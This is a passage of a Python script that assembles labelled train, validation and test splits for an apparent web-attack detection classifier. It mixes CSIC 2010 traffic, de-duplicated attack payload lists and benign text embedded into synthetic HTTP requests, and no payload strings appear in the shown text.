        raw, loc = embed(brng, pools, t, "benign", brng.choice(["query", "form", "form", "json", "cookie"]))
        items.append({"raw": raw, "label": "benign", "source": "synthetic/logins", "loc": loc, "payload": t,
                      "group": "p:" + key})


# ---------------------------------------------------------------- main


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--data", required=True, help="the datasets folder (../shared/datasets)")
    ap.add_argument("--out", required=True, help="output folder for train/valid/test.jsonl")
    ap.add_argument("--seed", type=int, default=2026)
    ap.add_argument("--words", default="/usr/share/dict/american-english")
    ap.add_argument("--fortunes", default="/usr/share/games/fortunes")
    ap.add_argument("--licenses", default="/usr/share/common-licenses")
    ap.add_argument("--synthetic-benign", type=int, default=40000, help="synthetic benign texts from Debian text")
    ap.add_argument("--max-payload", type=int, default=2048)
    ap.add_argument("--shellshock", type=int, default=1500, help="generated Shellshock payloads (before de-duplication)")
    ap.add_argument("--log4shell", type=int, default=2500, help="generated Log4Shell payloads (before de-duplication)")
    ap.add_argument("--benign-headers", type=int, default=8000, help="benign requests with varied inspected headers")
    ap.add_argument("--logins", type=int, default=3000, help="benign logins and names with command words, accents")
    args = ap.parse_args()
    rng = random.Random(args.seed)
    data = args.data
    items = []  # dicts with raw,label,source,loc,group
    pools = Pools()

    har_requests(data, rng, pools, items)
    log_requests(data, items)
    pools.freeze()

    # CSIC 2010
    train_keys = set()
    for raw_lines in csic_requests(find(data, "csic2010/normalTrafficTraining.txt")):
        raw, key = csic_raw(raw_lines)
        if raw is None or key in train_keys:
            continue
        train_keys.add(key)
        items.append({"raw": raw, "label": "benign", "source": "csic2010/normalTrafficTraining", "loc": None,
                      "group": "csic:" + key, "force": None})
    test_keys = set()
    for raw_lines in csic_requests(find(data, "csic2010/normalTrafficTest.txt")):
        raw, key = csic_raw(raw_lines)
        if raw is None or key in train_keys or key in test_keys:
            continue
        test_keys.add(key)
        items.append({"raw": raw, "label": "benign", "source": "csic2010/normalTrafficTest", "loc": None,
                      "group": "csic:" + key, "force": "test"})
    an_keys = set()
    for raw_lines in csic_requests(find(data, "csic2010/anomalousTrafficTest.txt")):
        raw, key = csic_raw(raw_lines)
        if raw is None or key in an_keys or key in train_keys or key in test_keys:
            continue
        an_keys.add(key)
        items.append({"raw": raw, "label": "attack_unlabelled", "source": "csic2010/anomalousTrafficTest", "loc": None,
                      "group": "csica:" + key, "force": "test"})

    # attack payloads, de-duplicated by normalised payload across all lists
    seen = {}
    for payload, cls, src, kind in attack_items(data, rng):
        if len(payload) > args.max_payload or not payload.strip():
            continue
        key = norm_payload(payload)
        if len(key) < 2:
            continue
        if key in seen:
            continue
        seen[key] = cls
        if kind == "target":
            raw, loc = embed_target(rng, pools, payload)
        else:
            raw, loc = embed(rng, pools, payload, cls)
        items.append({"raw": raw, "label": cls, "source": src, "loc": loc, "payload": payload, "group": "p:" + key})

    # benign values: httpparams lexical norm (forum text), search questions, kaggle XSS benign HTML, Debian text
    texts = []
    with open_text(find(data, "httpparams/payload_test_lexical.csv")) as f:
        for row in csv.DictReader(f):
            if row["label"] == "norm":
                texts.append((row["payload"], "httpparams/payload_test_lexical.csv", None))
    for fp in sorted(glob.glob(os.path.join(data, "search_queries", "nq_open", "*.jsonl"))):
        with open_text(fp) as f:
            for line in f:
                texts.append((json.loads(line)["question"], "search_queries/nq_open", "search"))
    for fp in sorted(glob.glob(os.path.join(data, "search_queries", "webquestions", "*.json"))):
        with open_text(fp) as f:
            for d in json.load(f):
                texts.append((d["qText"], "search_queries/webquestions", "search"))
    with open_text(find(data, "xss_kaggle/XSS_dataset.csv")) as f:
        for row in csv.DictReader(f):
            if row["Label"].strip() == "0" and row["Sentence"].strip() and len(row["Sentence"]) <= args.max_payload:
                texts.append((row["Sentence"], "xss_kaggle/benign", "html"))
    words, sents = debian_texts({"words": args.words, "fortunes": args.fortunes, "licenses": args.licenses})
    if not words or not sents:
        sys.exit("data.py: Debian text sources missing (apt-get install wamerican fortunes-min); see train/README.md")
    for t in benign_texts(rng, words, sents, args.synthetic_benign):
        texts.append((t, "debian_text", None))
    for t, src, hint in texts:
        key = norm_payload(t)
        if not key or key in seen:
            continue
        seen[key] = "benign"
        if hint == "search":
            ctx = "query" if rng.random() < 0.8 else "json"
            raw, loc = embed(rng, pools, t, "benign", ctx)
            # search questions go under search-like names
        elif hint == "html":
            raw, loc = embed(rng, pools, t, "benign", rng.choice(["form", "json"]))
        else:
            raw, loc = embed(rng, pools, t, "benign")
        items.append({"raw": raw, "label": "benign", "source": src, "loc": loc, "payload": t, "group": "p:" + key})

    header_rows(args, rng_seed=args.seed, pools=pools, words=words, items=items, seen=seen)

    # split
    splits = {"train": [], "valid": [], "test": []}
    for it in items:
        force = it.pop("force", None)
        g = it.pop("group")
        if force:
            s = force
        elif it["source"] == "csic2010/normalTrafficTraining":
            s = "valid" if hfrac(g, args.seed) < 0.12 else "train"
        else:
            s = split_of(g, args.seed)
        splits[s].append(it)
    os.makedirs(args.out, exist_ok=True)
    nid = 0
    counts = {}
    for s in ["train", "valid", "test"]:
        rows = splits[s]
        random.Random(args.seed + len(s)).shuffle(rows)
        c = collections.Counter()
        with open(os.path.join(args.out, s + ".jsonl"), "w", encoding="utf-8") as f:
            for it in rows:
                it["id"] = nid
                nid += 1
                c[it["label"]] += 1
                f.write(json.dumps(it, ensure_ascii=False) + "\n")
        counts[s] = dict(sorted(c.items()))
    with open(os.path.join(args.out, "counts.json"), "w") as f:
        json.dump(counts, f, indent=1)
    print(json.dumps(counts, indent=1))


if __name__ == "__main__":
    main()
